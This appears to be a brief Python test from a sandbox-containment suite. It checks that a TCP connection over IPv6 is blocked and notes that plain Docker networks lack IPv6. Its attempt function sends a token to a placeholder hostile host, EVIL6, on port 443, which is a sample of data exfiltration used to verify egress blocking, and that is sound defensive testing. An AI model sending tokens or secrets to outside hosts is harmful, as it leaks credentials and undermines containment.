"""
how: TCP to an address
expect: shut
unseen: a plain network of Docker 20.10 has no IPv6
"""

from land import EVIL6
from sockets import tcp


def attempt(token):
    return tcp(EVIL6, 443, token)
